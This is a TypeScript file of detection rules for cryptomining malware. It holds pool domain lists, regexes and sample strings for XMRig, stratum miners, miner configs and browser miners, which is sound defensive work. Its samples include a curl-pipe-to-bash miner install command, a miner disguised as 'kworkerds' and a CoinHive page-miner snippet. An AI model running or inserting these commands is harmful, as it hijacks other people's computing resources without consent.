import type { ContentRule } from './rule.ts'

const POOLS = [
  'supportxmr.com',
  'minexmr.com',
  'nanopool.org',
  'moneroocean.stream',
  'hashvault.pro',
  'c3pool.com',
  'c3pool.org',
  'xmrpool.eu',
  '2miners.com',
  'herominers.com',
  'unmineable.com',
  'f2pool.com',
  'ethermine.org',
  'nicehash.com',
  'zpool.ca',
  'auto.c3pool.org',
  'dwarfpool.com',
  'crypto-pool.fr',
  'monerohash.com',
  'minergate.com',
  'kryptex.network',
  'skypool.org',
  'pool.xmr.pt',
]
const STRATUM = ['stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', 'stratum2+tcp://', 'daemon+http://']

/** A wallet that is given by its name. */
const WALLET_OF = {
  pattern:
    /["']?(?:user|wallet|login|address|pool_?user|wallet_address)["']?\s*[:=]\s*["']?(?:[48][0-9AB][1-9A-HJ-NP-Za-km-z]{90,104}|0x[0-9a-fA-F]{40}|(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60})/,
  near: ['user', 'wallet', 'login', 'address'],
}

/** Programs, scripts and settings that mine for somebody. */
export const MINERS: readonly ContentRule[] = [
  {
    number: 2,
    name: 'Linux.Miner.XMRig',
    title: ['XMRig miner', 'XMRig 挖矿程序'],
    kind: 'miner',
    in: ['program'],
    when: {
      any: [
        {
          atLeast: 3,
          of: [
            'donate-level',
            'randomx-mode',
            'huge-pages-jit',
            'xmrig/',
            'randomx-wrmsr',
            'cpu-max-threads-hint',
            'xmrig.json',
            'kawpow',
            'cn-heavy/xhv',
            'argon2/chukwav2',
            'rig-id',
            'cn/upx2',
          ],
        },
        { all: ['cryptonight', 'mining.submit', 'stratum+'] },
        { all: ['randomx', 'keepalived', 'job_id', 'nonce', 'rig-id'] },
      ],
    },
    references: ['https://github.com/xmrig/xmrig', 'https://attack.mitre.org/techniques/T1496/001/'],
    match: ['XMRig/6.21.0 libuv/1.44', '--donate-level=N', '--randomx-mode=MODE', '--huge-pages-jit', '--rig-id=ID'],
    harmless: ['RandomX proof of work', '--rig-id', 'huge pages are used', 'stratum v2 notes'],
  },
  {
    number: 3,
    name: 'Linux.Miner.Stratum',
    title: ['Mining program that speaks stratum', '使用 stratum 协议的挖矿程序'],
    kind: 'miner',
    in: ['program'],
    when: {
      any: [
        {
          all: [
            { any: STRATUM },
            { any: ['mining.subscribe', 'mining.authorize', 'mining.submit', '"login"', 'eth_submitwork'] },
          ],
        },
        { all: ['mining.subscribe', 'mining.authorize', 'mining.submit'] },
        {
          all: [
            { any: STRATUM },
            { any: ['cryptonight', 'randomx', 'ethash', 'scrypt', 'kawpow', 'yescrypt', 'hashrate'] },
          ],
        },
        { all: [{ any: STRATUM }, { any: POOLS }] },
      ],
    },
    references: [
      'https://en.bitcoin.it/wiki/Stratum_mining_protocol',
      'https://attack.mitre.org/techniques/T1496/001/',
    ],
    match: [
      'Usage: minerd [OPTIONS]',
      'stratum+tcp://',
      '{"method": "mining.subscribe", "params": []}',
      'mining.authorize',
      'mining.submit',
    ],
    harmless: ['stratum: number of hops to the reference clock', 'ntpd stratum 2', 'mining of data'],
  },
  {
    number: 4,
    name: 'Miner.Config',
    title: ['Settings of a miner: a pool and a wallet', '挖矿配置：矿池与钱包'],
    kind: 'miner',
    in: ['script', 'text'],
    when: {
      any: [
        {
          all: [{ any: [...POOLS, ...STRATUM] }, WALLET_OF],
        },
        { all: [{ any: ['"algo"', '"coin"', '"nicehash"', '"rig-id"', '"pools"', '"pool"'] }, WALLET_OF] },
        { all: ['"donate-level"', '"pools"', '"coin"'] },
        { all: ['"donate-level"', '"pools"', '"url"', '"user"'] },
        { all: ['"pool_list"', '"pool_address"', '"wallet_address"'] },
      ],
    },
    references: ['https://xmrig.com/docs/miner/config', 'https://attack.mitre.org/techniques/T1496/001/'],
    match: [
      '{ "autosave": true, "cpu": true, "donate-level": 1,',
      '  "pools": [ { "coin": "monero", "url": "pool.example:3333", "user": "w", "pass": "x" } ] }',
    ],
    harmless: ['{ "pools": [ { "name": "db", "url": "postgres://db", "user": "app" } ] }'],
  },
  {
    number: 5,
    name: 'Script.Miner.Start',
    title: ['Script that starts a miner', '启动挖矿程序的脚本'],
    kind: 'miner',
    in: ['script', 'text'],
    when: {
      any: [
        {
          pattern:
            /(?:^|[\s/"';&|])(?:SRBMiner-MULTI|lolMiner|t-rex|nbminer|gminer|teamredminer|hellminer|ccminer|cpuminer|xmrig|xmr-stak|minerd|PhoenixMiner|nanominer)["']?\s[^\n]{0,300}(?:--(?:pool|url|algo|algorithm|wallet|user|coin)|\s-[oauPc])[\s=]/i,
          near: ['miner', 't-rex', 'xmrig', 'xmr-stak'],
        },
        {
          pattern:
            /(?:^|[\s"'=])(?:-o|--url|--pool|-P|-S|--server)[\s="']{1,4}(?:stratum\d?\+(?:tcp|ssl|tls):\/\/|[\w.-]{1,80}(?:supportxmr|minexmr|nanopool|moneroocean|hashvault|c3pool|xmrpool|2miners|herominers|unmineable|f2pool|ethermine|nicehash|dwarfpool|monerohash|minergate|kryptex|skypool)\.)[^\n]{0,300}/,
          near: [...POOLS, ...STRATUM],
        },
        {
          pattern: /(?:-u|--user|--wallet)[\s="']{1,4}[48][0-9AB][1-9A-HJ-NP-Za-km-z]{90,104}(?![1-9A-HJ-NP-Za-km-z])/,
          near: ['-u 4', '-u 8', '-u=4', '-u=8', "-u '", '-u "', '--user', '--wallet'],
        },
        {
          pattern:
            /["'](?:-u|--user|--wallet|-O|--userpass)["']\s{0,4},\s{0,4}f?["'][48][0-9AB][1-9A-HJ-NP-Za-km-z]{90,104}(?![1-9A-HJ-NP-Za-km-z])/,
          near: ['"-u"', "'-u'", '"--user"', "'--user'", '"--wallet"', "'--wallet'", '"-O"', "'-O'"],
        },
        {
          pattern:
            /--donate-level[ =]\d[^\n]{0,300}(?:--?(?:cpu|rig|coin|tls|nicehash|randomx|max-cpu|threads|http|background|B|k)\b)/,
          near: ['--donate-level'],
        },
        {
          pattern:
            /(?:--?(?:cpu-priority|coin|tls|nicehash|randomx[\w-]*|background|keepalive|cpu-max-threads-hint))\b[^\n]{0,300}--donate-level[ =]\d/,
          near: ['--donate-level'],
        },
      ],
    },
    references: ['https://xmrig.com/docs/miner/command-line-options', 'https://attack.mitre.org/techniques/T1496/001/'],
    match: ['#!/bin/sh', './kworkerds -o stratum+tcp://pool.supportxmr.com:443 -u WALLET -p x --tls'],
    harmless: ['#!/bin/sh', 'curl -o out.json --url https://example.org/stratum', 'chronyc -n sources # stratum'],
  },
  {
    number: 6,
    name: 'Script.Miner.SetupFromPool',
    title: ['Script of a pool that installs a miner as a service', '矿池提供的挖矿服务安装脚本'],
    kind: 'miner',
    in: ['script'],
    when: {
      any: [
        { all: ['setup_c3pool_miner'] },
        { all: ['setup_moneroocean_miner'] },
        { all: ['moneroocean_miner.service', 'execstart='] },
        { all: ['c3pool_miner.service', 'execstart='] },
        { all: ['xmrig', 'execstart=', { any: ['systemctl enable', 'systemctl start'] }, 'config.json'] },
      ],
    },
    references: ['https://github.com/MoneroOcean/xmrig_setup', 'https://unit42.paloaltonetworks.com/atoms/teamtnt/'],
    match: [
      '#!/bin/bash',
      'curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh | bash -s WALLET',
    ],
    harmless: [
      '#!/bin/bash',
      'cat > app.service <<E',
      'ExecStart=/usr/bin/app --config config.json',
      'systemctl enable app',
    ],
  },
  {
    number: 7,
    name: 'Linux.Miner.CpuMiner',
    title: ['cpuminer and its kin', 'cpuminer 及其衍生挖矿程序'],
    kind: 'miner',
    in: ['program'],
    when: {
      any: [
        { all: ['minerd [options]'] },
        { all: ['cpuminer', { any: ['--coinbase-addr', 'yescrypt', 'scrypt', 'x11evo', 'lyra2'] }] },
        { all: ['cpuminer-multi'] },
        { all: ['cpuminer-opt'] },
        { all: ['--algo=', '--retry-pause', '--no-longpoll'] },
      ],
    },
    references: ['https://github.com/pooler/cpuminer', 'https://attack.mitre.org/techniques/T1496/001/'],
    match: [
      'cpuminer 2.5.1',
      '-a, --algo=ALGO specify the algorithm to use',
      '--coinbase-addr=ADDR',
      '--retry-pause=N',
      '--no-longpoll',
    ],
    harmless: ['scrypt key derivation', '--algo=ALGO checksum'],
  },
  {
    number: 8,
    name: 'Linux.Miner.XmrStak',
    title: ['xmr-stak miner', 'xmr-stak 挖矿程序'],
    kind: 'miner',
    in: ['program'],
    when: {
      any: [{ all: ['xmr-stak', 'pools.txt'] }, { all: ['xmr-stak-cpu'] }, { all: ['nicehash_nonce', 'pool_list'] }],
    },
    references: ['https://github.com/fireice-uk/xmr-stak', 'https://attack.mitre.org/techniques/T1496/001/'],
    match: ['xmr-stak 2.10.8', 'pools.txt', 'nicehash_nonce', 'pool_list'],
    harmless: ['pools.txt', 'stak'],
  },
  {
    number: 9,
    name: 'Linux.Miner.Gpu',
    title: ['Miner for graphics cards', '显卡挖矿程序'],
    kind: 'miner',
    in: ['program'],
    when: {
      any: [
        { all: ['ethminer', { any: ['--farm-recheck', 'ethash', 'stratum'] }] },
        { all: ['t-rex', 'kawpow'] },
        { all: ['lolminer'] },
        { all: ['phoenixminer'] },
        { all: ['nbminer', { any: ['ethash', 'kawpow', 'stratum'] }] },
        { all: ['gminer', 'kawpow'] },
        { all: ['ccminer', { any: ['stratum', 'lyra2', 'scrypt'] }] },
        { all: ['srbminer-multi'] },
      ],
    },
    references: ['https://attack.mitre.org/techniques/T1496/001/', 'https://github.com/ethereum-mining/ethminer'],
    match: ['ethminer 0.19.0', '--farm-recheck', 'ethash dag', 'stratum1+tcp://'],
    harmless: ['ethash is a function', 'graphics card'],
  },
  {
    number: 10,
    name: 'Web.Miner.InPage',
    title: ['Miner that runs in the browser of visitors', '在访客浏览器中运行的挖矿脚本'],
    kind: 'miner',
    in: ['script', 'text'],
    severity: 'medium',
    when: {
      any: [
        {
          pattern: /new\s+(?:CoinHive|Client|CRLT|deepMiner|CoinImp|Miner|WMP)\.(?:Anonymous|User|Token)\s*\(/,
          near: ['coinhive.', 'client.anonymous', 'crlt.anonymous', 'deepminer.', 'coinimp.', 'miner.anonymous'],
        },
        { all: ['cryptonight', 'websocket', 'wasm', 'worker'] },
      ],
    },
    attack: ['T1496.001', 'T1189'],
    references: [
      'https://krebsonsecurity.com/2018/03/who-and-what-is-coinhive/',
      'https://attack.mitre.org/techniques/T1496/001/',
    ],
    match: ['var miner = new CoinHive.Anonymous("KEY", {throttle: 0.3}); miner.start();'],
    harmless: ['const client = new Client.Builder("wss://example.org"); new Worker("wasm.js")'],
  },
]
